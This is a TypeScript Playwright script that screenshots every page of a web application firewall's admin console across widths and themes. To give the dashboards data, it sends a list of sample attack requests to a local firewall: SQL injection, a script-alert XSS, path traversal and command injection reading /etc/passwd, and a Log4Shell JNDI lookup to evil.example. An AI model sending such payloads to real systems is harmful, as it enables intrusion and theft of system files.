// Pictures of every page of a running console, in each width and both themes, to be looked at one by one:
//   node build/console/e2e/screenshots.js DIRECTORY --password-file FILE [--url http://127.0.0.1:3010]
//     [--email admin@gatehouse.local] [--waf http://127.0.0.1:8080] [--only /soc,/waf] [--width 390] [--theme light]
//     [--whole] [--sheets] [--states slow,refused,failing,away,opened]
// With --waf it sends ordinary requests and attacks to that port first, so that the pages have something to show.
// With --sheets the pictures are put together, several in one file. With --states it pictures, instead of pages at
// rest, what they are only sometimes: without answers, or with what a click opens (pictures/states.ts).
// A page that does not come to rest is named, the others are pictured all the same; it then ends with 1.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import type { Browser, Page } from 'playwright-core';
import { consoleFlags, launchChromium, logInAs, passwordIn, settled, watchRequests } from './browser.js';
import { loggedInPaths, publicPaths } from './pages.js';
import { writeSheets, type Picture } from './pictures/contact-sheets.js';
import {
  pictureOpening,
  picturePalette,
  pictureWeather,
  refuseChanges,
  weathersKnown,
  type Shoot,
} from './pictures/states.js';

const widths = [1440, 1024, 390];
const themes = ['dark', 'light'] as const;

const ordinary = ['/', '/search?q=coat', '/products/7', '/cart', '/api/orders?page=2', '/about', '/login'];
const attacks = [
  "/search?q=1'%20OR%20'1'='1",
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/download?file=../../../../etc/passwd',
  '/tools/ping?host=127.0.0.1;cat%20/etc/passwd',
  '/?x=$%7Bjndi:ldap://evil.example/a%7D',
];

async function sendTraffic(waf: string): Promise<void> {
  for (let round = 0; round < 20; round += 1) {
    for (const path of ordinary) await fetch(waf + path, { headers: { 'user-agent': 'Mozilla/5.0' } });
    const attack = attacks[round % attacks.length] ?? '/';
    await fetch(waf + attack, { headers: { 'user-agent': round % 3 === 0 ? 'sqlmap/1.8' : 'Mozilla/5.0' } });
  }
}

const nameOf = (path: string): string =>
  path
    .replaceAll(/[^A-Za-z0-9.]+/g, '-')
    .replace(/^-$/, '-overview')
    .slice(1);

async function open(browser: Browser, url: string, width: number, theme: 'dark' | 'light'): Promise<Page> {
  const context = await browser.newContext({
    baseURL: url,
    viewport: { width, height: 900 },
    colorScheme: theme,
    reducedMotion: 'reduce',
  });
  const page = await context.newPage();
  watchRequests(page);
  return page;
}

/** Returns what kept the page from coming to rest, or null; it is pictured as it is then. */
async function visit(page: Page, path: string): Promise<string | null> {
  try {
    await page.goto(path);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await settled(page);
    return null;
  } catch (error) {
    return error instanceof Error ? (error.message.split('\n')[0] ?? '') : String(error);
  }
}

const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: {
    ...consoleFlags,
    waf: { type: 'string' },
    only: { type: 'string' },
    width: { type: 'string' },
    theme: { type: 'string' },
    whole: { type: 'boolean', default: false },
    sheets: { type: 'boolean', default: false },
    states: { type: 'string' },
  },
});
const [directory = 'screenshots'] = positionals;
const only = values.only?.split(',');
mkdirSync(directory, { recursive: true });

const pathsWanted = [...publicPaths, ...loggedInPaths].filter((path) => only?.includes(path) ?? true);

async function pictureAtRest(page: Page, shoot: Shoot): Promise<void> {
  for (const path of pathsWanted) {
    if (!publicPaths.includes(path) && (await page.locator('.shell').count()) === 0)
      await logInAs(page, values.email, passwordIn(values));
    const problem = await visit(page, path);
    await shoot(path);
    if (problem === null) continue;
    console.log(`${path}: ${problem}`);
    process.exitCode = 1;
  }
}

async function pictureStates(page: Page, kinds: readonly string[], shoot: Shoot): Promise<void> {
  await logInAs(page, values.email, passwordIn(values));
  const paths = pathsWanted.filter((path) => !publicPaths.includes(path));
  const weathers = weathersKnown.filter((one) => kinds.includes(one));
  for (const path of paths) await pictureWeather(page, path, weathers, shoot);
  if (!kinds.includes('opened')) return;
  await refuseChanges(page);
  if (only === undefined) await picturePalette(page, shoot);
  for (const path of paths)
    await pictureOpening(page, path, shoot).catch((error: unknown) => console.log(`${path}: ${String(error)}`));
}

async function pictureAll(browser: Browser, width: number, theme: 'dark' | 'light'): Promise<void> {
  const page = await open(browser, values.url, width, theme);
  const pictures: Picture[] = [];
  const shoot: Shoot = async (name) => {
    const png = await page.screenshot({ fullPage: values.whole });
    const wide = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    if (wide > 0) console.log(`${name} at ${width} px, ${theme}: ${wide} px wider than its window`);
    if (values.sheets) pictures.push({ name, png, width });
    else writeFileSync(join(directory, `${nameOf(name)}-${width}-${theme}.png`), png);
  };
  if (values.states === undefined) await pictureAtRest(page, shoot);
  else await pictureStates(page, values.states.split(','), shoot);
  await page.context().close();
  await writeSheets(browser, directory, `${width}-${theme}`, pictures);
}

if (values.waf !== undefined) await sendTraffic(values.waf);
const browser = await launchChromium();
for (const width of widths.filter((one) => String(one) === (values.width ?? String(one))))
  for (const theme of themes.filter((one) => one === (values.theme ?? one))) await pictureAll(browser, width, theme);
await browser.close();
